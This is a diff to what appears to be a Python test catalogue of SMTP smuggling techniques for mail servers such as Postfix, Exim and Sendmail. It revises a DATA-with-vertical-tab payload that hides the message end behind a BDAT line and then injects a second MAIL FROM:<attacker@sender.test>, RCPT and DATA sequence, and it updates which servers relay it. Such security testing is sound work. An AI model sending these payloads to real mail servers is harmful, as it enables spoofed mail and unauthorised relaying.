@@ -603,14 +603,20 @@ for _n, _line in [("vt-separator", "RCPT\x0bTO:<{t}@elsewhere.test>"),
 
 
 def _data_vt(t):
+    # All but OpenSMTPD take DATA<VT> for DATA: the "." line ends the body
+    # and the MAIL/RCPT/DATA after it relay.  A reader that took the line
+    # for an unknown command would read "BDAT 43" and skip the dot and
+    # MAIL line as chunk data.
     return [Round("RCPT TO:<%s@example.test>\r\n" % t),
             Round("DATA\x0b\r\n"),
-            Round("RCPT TO:<%s@elsewhere.test>\r\nDATA\r\n%s" % (t, BODY))]
+            Round("Subject: x\r\n\r\nBDAT 43\r\n.\r\n"
+                  "MAIL FROM:<attacker@sender.test>\r\n"
+                  "RCPT TO:<%s@elsewhere.test>\r\nDATA\r\n%s" % (t, BODY))]
 
 
-add("ambiguity-data-vt", "DATA<VT> (DATA to Postfix, unknown to Exim), "
-    "then RCPT, DATA and a body", _data_vt, replay=AMB, quit_only=True,
-    control="immune", relays_on=("exim",))
+add("ambiguity-data-vt", "DATA<VT> (DATA to Postfix, Exim and Sendmail), "
+    "a body hiding its end behind BDAT, then MAIL, RCPT, DATA", _data_vt,
+    replay=AMB, quit_only=True, relays_on=("postfix", "exim", "sendmail"))
 
 
 def _long_line(t):
@@ -637,8 +643,10 @@ def _bdat(t):
 
 
 add("ambiguity-bdat-not-offered", "after HELO (no CHUNKING offered): "
-    "BDAT n and n bytes that are a foreign RCPT (Sendmail runs it)", _bdat,
-    pre=_bdat_helo, replay=AMB, control="immune", relays_on=("sendmail",))
+    "BDAT n and n bytes that are a foreign RCPT (Exim and Sendmail run it)",
+    _bdat,
+    pre=_bdat_helo, replay=AMB, control="immune",
+    relays_on=("exim", "sendmail"))
 
 BY_NAME = {t.name: t for t in TECHNIQUES}
 
